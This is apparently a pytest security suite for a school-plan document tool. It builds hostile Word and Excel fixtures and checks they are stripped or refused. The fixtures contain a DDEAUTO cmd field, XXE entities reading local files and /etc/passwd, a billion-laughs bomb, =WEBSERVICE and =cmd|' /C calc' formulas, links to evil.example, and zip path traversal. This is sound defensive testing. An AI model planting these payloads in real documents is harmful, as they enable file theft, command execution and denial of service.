"""Files from outside: bounded, nothing fetched, nothing of them run, copied or told.

Bombs, torn files and floods are in ``hostile/``; here is what a file may smuggle in.
"""

from __future__ import annotations

import io
import json
import random
import re
import shutil
import zipfile
from typing import TYPE_CHECKING

import docx
import pytest
from lxml import etree
from xlsxwriter import Workbook

from hostile.archives import changed
from plangen.cli import main
from plangen.source.archives import has_doctype, is_in_place

from .running import EXAMPLES

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Command = Callable[..., tuple[int, str]]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
EVIL = "http://evil.example/x"
PRIVATE = "机密：校长的密码是一二三"
HEADER, SETTINGS, THEME = "word/header1.xml", "word/settings.xml", "word/theme/theme1.xml"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
DOSSIER = EXAMPLES / "001-6" / "档案.yaml"


def relations(*each: tuple[str, str, str, bool]) -> bytes:
    """Write relations: id, kind, target, whether it leads out."""
    inside = "".join(
        f'<Relationship Id="{identity}" Type="{R}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if external else ''}/>"
        for identity, kind, target, external in each
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{inside}</Relationships>'.encode()


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def picture(attributes: str, click: str = "") -> str:
    return run(
        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        f'<wp:docPr id="1" name="图">{click}</wp:docPr><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="1" name="图"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attributes}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing>"
    )


def field(instruction: str, shown: str) -> str:
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + run(f"<w:instrText>{instruction}</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run(f"<w:t>{shown}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )


HEAD = (
    f"<w:hdr {NAMES}><w:p>"
    + run("<w:t>青石桥小学</w:t>")
    + picture('r:embed="rIn"')
    + picture('r:link="rOut"')
    + picture('r:embed="rIn" r:link="rOut"', '<a:hlinkClick r:id="rOut"/>')
    + run(f'<w:pict><v:shape o:href="{EVIL}"><v:imagedata src="{EVIL}"/></v:shape></w:pict>')
    + run('<w:pict><v:shape><v:imagedata r:id="rIn" r:href="rOut"/></v:shape></w:pict>')
    + run(
        '<w:object><v:shape><v:imagedata r:id="rIn"/></v:shape>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rOle"/></w:object>'
    )
    + '<w:hyperlink r:id="rOut"><w:r><w:t>学校网站</w:t></w:r></w:hyperlink>'
    + field("PAGE", "1")
    + field(f' INCLUDEPICTURE "{EVIL}" \\d', "旧图")
    + field(' DDEAUTO c:\\\\windows\\\\cmd "/k calc"', "旧值")
    + field("INCLUDETEXT file:///etc/passwd", "旧文")
    + f'<w:fldSimple w:instr="LINK {EVIL}">{run("<w:t>旧链</w:t>")}</w:fldSimple>'
    + f'<w:fldSimple w:instr="NUMPAGES">{run("<w:t>9</w:t>")}</w:fldSimple>'
    + "</w:p></w:hdr>"
).encode()
HEAD_RELATIONS = relations(
    ("rIn", "image", "media/校徽.png", False),
    ("rOut", "image", EVIL, True),
    ("rOle", "oleObject", "embeddings/ole.bin", False),
)
CONTENT_TYPES = "[Content_Types].xml"


def school(extra: dict[str, bytes | None] | None = None) -> bytes:
    """Return a school's document that reaches out in every way, with changes to its parts."""
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "校名"
    buffer = io.BytesIO()
    word.save(buffer)
    data = buffer.getvalue()
    parts = members(data)
    types = parts[CONTENT_TYPES].replace(
        b"<Override",
        b'<Default Extension="bin" ContentType="a/b"/>'
        b'<Default Extension="html" ContentType="text/html"/>'
        b'<Default Extension="png" ContentType="image/png"/><Override',
        1,
    )
    document = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        relations(
            ("rVba", "vbaProject", "vbaProject.bin", False),
            ("rFrame", "frame", EVIL, True),
            ("rChunk", "aFChunk", "chunk.html", False),
        ).partition(b">")[2],
    )
    settings = parts[SETTINGS].replace(
        b"<w:zoom", b'<w:attachedTemplate xmlns:r="%s" r:id="rTpl"/><w:zoom' % R.encode(), 1
    )
    return changed(
        data,
        {
            CONTENT_TYPES: types,
            "word/_rels/document.xml.rels": document,
            "word/vbaProject.bin": b"macro",
            "word/chunk.html": b"<script>",
            "word/embeddings/ole.bin": b"ole",
            "word/media/校徽.png": PIXEL,
            HEADER: HEAD,
            "word/_rels/header1.xml.rels": HEAD_RELATIONS,
            SETTINGS: settings,
            "word/_rels/settings.xml.rels": relations(("rTpl", "attachedTemplate", EVIL, True)),
            **(extra or {}),
        },
    )


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def plangen(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> Callable[..., tuple[int, str]]:
    """Run a command in the folder of the test; return its status and all that it said."""
    monkeypatch.chdir(tmp_path)

    def call(*arguments: str) -> tuple[int, str]:
        monkeypatch.setattr("sys.argv", ["plangen", *arguments])
        with pytest.raises(SystemExit) as ended:
            main()
        heard = capfd.readouterr()
        return int(ended.value.code or 0), heard.out + heard.err

    return call


# The school's own document.


@pytest.fixture
def like_school(plangen: Command, tmp_path: Path) -> Callable[..., dict[str, bytes]]:
    """Write a document like a school's; return its parts."""

    def write(data: bytes) -> dict[str, bytes]:
        (tmp_path / "校本.docx").write_bytes(data)
        output = tmp_path / "计划.docx"
        arguments = (str(DOSSIER), "-o", "计划.docx", "--reference", "校本.docx", "--force")
        status, said = plangen("render", *arguments)
        assert status == 0, said
        docx.Document(str(output))
        return members(output.read_bytes())

    return write


def test_nothing_outside_goes_on_from_the_schools_document(
    like_school: Callable[[bytes], dict[str, bytes]],
) -> None:
    written = like_school(school())
    for name, content in written.items():
        assert b"evil.example" not in content, name
        assert b'TargetMode="External"' not in content, name
        assert not any(word in content for word in (b"DDEAUTO", b"passwd", b"<script>", b"OLEObj"))
    assert not any("vba" in name or "chunk" in name or "ole" in name for name in written)


def test_what_the_head_of_the_schools_document_carries_goes_on(
    like_school: Callable[[bytes], dict[str, bytes]],
) -> None:
    written = like_school(school())
    head = next(content for content in written.values() if "青石桥小学".encode() in content)
    root = etree.fromstring(head)
    shown = "".join(str(text) for text in root.itertext(f"{{{W}}}t"))
    assert shown == "青石桥小学学校网站1旧图旧值旧文旧链9"
    assert [each.text for each in root.iter(f"{{{W}}}instrText")] == ["PAGE"]
    assert [each.get(f"{{{W}}}instr") for each in root.iter(f"{{{W}}}fldSimple")] == ["NUMPAGES"]
    assert len(list(root.iter(f"{{{W}}}drawing"))) == 2
    assert PIXEL in written.values()


def test_every_relation_that_a_head_speaks_of_is_there(
    like_school: Callable[[bytes], dict[str, bytes]],
) -> None:
    written = like_school(school())
    for name, content in written.items():
        if not name.endswith(".xml") or name == CONTENT_TYPES:
            continue
        folder, _, file = name.rpartition("/")
        known = written.get(f"{folder}/_rels/{file}.rels", b"")
        for each in etree.fromstring(content).iter(etree.Element):
            for attribute, value in each.attrib.items():
                if attribute.startswith(f"{{{R}}}"):
                    assert f'Id="{value}"'.encode() in known, (name, each.tag)


def test_a_picture_of_the_theme_is_not_fetched(
    like_school: Callable[[bytes], dict[str, bytes]],
) -> None:
    theme = members(school())[THEME]
    linked = theme.replace(
        b"</a:objectDefaults>",
        b'<a:spDef><a:spPr><a:blipFill><a:blip xmlns:r="%s" r:link="rOut"/></a:blipFill></a:spPr>'
        b"</a:spDef></a:objectDefaults>" % R.encode(),
    ).replace(
        b"<a:objectDefaults/>",
        b'<a:objectDefaults><a:spDef><a:spPr><a:blipFill><a:blip xmlns:r="%s" r:link="rOut"/>'
        b"</a:blipFill></a:spPr></a:spDef></a:objectDefaults>" % R.encode(),
    )
    assert linked != theme
    links = relations(("rOut", "image", EVIL, True))
    written = like_school(school({THEME: linked, "word/theme/_rels/theme1.xml.rels": links}))
    assert b"rOut" not in written[THEME]
    assert not any(b"evil.example" in content for content in written.values())


@pytest.mark.parametrize("kind", ["header", "styles", "numbering", "settings", "theme"])
def test_a_part_that_is_to_be_fetched_is_left_out_or_refused(
    plangen: Command, tmp_path: Path, kind: str
) -> None:
    parts = members(school())
    root = etree.fromstring(parts["word/_rels/document.xml.rels"])
    for each in root:
        if each.get("Type", "").endswith(f"/{kind}"):
            each.set("Target", EVIL)
            each.set("TargetMode", "External")
    (tmp_path / "校本.docx").write_bytes(
        school({"word/_rels/document.xml.rels": etree.tostring(root)})
    )
    status, said = plangen("render", str(DOSSIER), "-o", "计划.docx", "--reference", "校本.docx")
    if status:
        assert "不是能用的 Word 文档" in said
        assert not (tmp_path / "计划.docx").exists()
    else:
        written = members((tmp_path / "计划.docx").read_bytes())
        assert not any(b"evil.example" in content for content in written.values())


@pytest.mark.parametrize(
    "name",
    ["..\\..\\坏.png", "word/../../坏.png", "C:\\坏.png", "\\\\server\\坏.png", "media/a:b.png"],
)
def test_no_member_leads_out_of_the_written_document(
    plangen: Command, tmp_path: Path, name: str
) -> None:
    links = HEAD_RELATIONS.replace("media/校徽.png".encode(), name.encode())
    data = school({f"word/{name}": PIXEL, name: PIXEL, "word/_rels/header1.xml.rels": links})
    (tmp_path / "校本.docx").write_bytes(data)
    status, said = plangen("render", str(DOSSIER), "-o", "计划.docx", "--reference", "校本.docx")
    assert (status == 1) == (not (tmp_path / "计划.docx").exists())
    if status:
        assert "不是能用的 Word 文档" in said
    else:
        assert all(map(is_in_place, members((tmp_path / "计划.docx").read_bytes())))


def test_a_document_with_macros_is_refused(plangen: Command, tmp_path: Path) -> None:
    types = members(school())[CONTENT_TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    (tmp_path / "校本.docx").write_bytes(school({CONTENT_TYPES: types}))
    status, said = plangen("render", str(DOSSIER), "-o", "计划.docx", "--reference", "校本.docx")
    assert status == 1
    assert "不是能用的 Word 文档" in said


# Entities.


def with_entity(content: bytes, secret: Path, encoding: str = "utf-8") -> bytes:
    """Declare an entity that names a file, and put it where the text 密 stands."""
    text = re.sub(r"^<\?.*?\?>\s*", "", content.decode())
    root = text[1:].split(None, 1)[0].split(">")[0]
    entity = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    head = f'<?xml version="1.0" encoding="{encoding}"?>{entity}'
    return (head + text.replace("密", "&x;")).encode(encoding)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(PRIVATE, encoding="utf-8")
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/styles.xml"])
def test_no_file_gets_into_a_report_through_a_word_document(
    plangen: Command, tmp_path: Path, secret: Path, part: str, encoding: str
) -> None:
    word = docx.Document()
    word.add_paragraph("密")
    word.sections[0].header.paragraphs[0].text = "密"
    buffer = io.BytesIO()
    word.save(buffer)
    parts = members(buffer.getvalue())
    hostile = changed(buffer.getvalue(), {part: with_entity(parts[part], secret, encoding)})
    (tmp_path / "文稿.docx").write_bytes(hostile)
    for arguments in (
        ("--format", "json", "check", "文稿.docx", "--fix", "--comments"),
        ("render", str(DOSSIER), "-o", "输出.docx", "--reference", "文稿.docx"),
    ):
        status, said = plangen(*arguments)
        assert PRIVATE not in said
        assert "Traceback" not in said
    assert status == 1
    for path in tmp_path.glob("*.docx"):
        assert not any(
            PRIVATE.encode() in content for content in members(path.read_bytes()).values()
        )


def workbook(*rows: tuple[str | int, ...]) -> bytes:
    buffer = io.BytesIO()
    with Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return buffer.getvalue()


SCORES = (("姓名", "数学"), ("密", 71), ("许晓", 52), ("马小雨", 90))
LAUGHS = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("part", ["xl/styles.xml", "xl/sharedStrings.xml"])
def test_no_file_gets_into_a_table(
    plangen: Command, tmp_path: Path, secret: Path, part: str, encoding: str
) -> None:
    data = workbook(*SCORES)
    hostile = changed(data, {part: with_entity(members(data)[part], secret, encoding)})
    (tmp_path / "成绩.xlsx").write_bytes(hostile)
    status, said = plangen("scores", "成绩.xlsx")
    assert status == 1
    assert PRIVATE not in said
    assert "读不出这张表格" in said


def test_entities_that_unfold_in_a_table_are_refused_unread(
    plangen: Command, tmp_path: Path
) -> None:
    data = workbook(*SCORES)
    strings = members(data)["xl/sharedStrings.xml"].decode().replace("密", "&a8;")
    laughing = f'<!DOCTYPE sst [<!ENTITY a0 "哈哈">{LAUGHS}]>' + strings.partition("?>")[2]
    (tmp_path / "成绩.xlsx").write_bytes(changed(data, {"xl/sharedStrings.xml": laughing.encode()}))
    status, said = plangen("scores", "成绩.xlsx")
    assert status == 1
    assert "读不出这张表格" in said


def test_a_declaration_is_seen_in_every_encoding_that_a_parser_knows() -> None:
    for encoding in ("utf-8", "utf-16", "utf-16-be", "gb18030", "latin-1"):
        assert has_doctype("<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode(encoding))
    assert not has_doctype(b"<a>DOCTYPE</a>")


# Tables.


def test_what_a_workbook_links_to_is_not_looked_at(plangen: Command, tmp_path: Path) -> None:
    data = workbook(
        *SCORES, ('=WEBSERVICE("http://evil.example/x")', 60), ("=cmd|' /C calc'!A0", 1)
    )
    links = relations(("rId1", "externalLinkPath", EVIL, True))
    hostile = changed(
        data,
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": links,
            "xl/vbaProject.bin": b"macro",
            "../../坏了": b"a",
        },
    )
    (tmp_path / "成绩.xlsx").write_bytes(hostile)
    status, said = plangen("--format", "json", "scores", "成绩.xlsx")
    assert status in {0, 1}
    assert json.loads(said)
    assert {path.name for path in tmp_path.iterdir()} == {"成绩.xlsx"}


def overlapping(data: bytes, name: str, times: int) -> bytes:
    """Let a zip file name one and the same member again and again."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        (same,) = (info for info in archive.filelist if info.filename == name)
        archive.filelist.extend([same] * times)
        archive.comment = b"x"
    return buffer.getvalue()


@pytest.mark.parametrize("times", [10, 200, 6_000])
def test_members_that_overlap_do_not_add_up(plangen: Command, tmp_path: Path, times: int) -> None:
    huge = changed(workbook(*SCORES), {"xl/styles.xml": b" " * 1_000_000})
    (tmp_path / "成绩.xlsx").write_bytes(overlapping(huge, "xl/styles.xml", times))
    shutil.copy(next(EXAMPLES.glob("001-6/*.docx")), tmp_path / "文稿.docx")
    whole = (tmp_path / "文稿.docx").read_bytes()
    (tmp_path / "文稿.docx").write_bytes(overlapping(whole, "word/document.xml", times))
    for arguments in (
        ("scores", "成绩.xlsx"),
        ("check", "文稿.docx"),
        ("render", str(DOSSIER), "-o", "输出.docx", "--reference", "文稿.docx"),
    ):
        _, said = plangen(*arguments)
        assert "Traceback" not in said
        if times == 6_000:
            assert "太大" in said or "读不出" in said


def test_an_old_workbook_with_bytes_changed_is_read_or_refused(
    plangen: Command, tmp_path: Path
) -> None:
    (example,) = EXAMPLES.glob("*/期末成绩.xls")
    chance = random.Random(20260907)  # noqa: S311  (the same bytes in every run)
    for _ in range(60):
        data = bytearray(example.read_bytes())
        for _ in range(chance.randrange(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        (tmp_path / "成绩.xls").write_bytes(data)
        status, said = plangen("scores", "成绩.xls")
        assert status in {0, 1}
        assert "Traceback" not in said
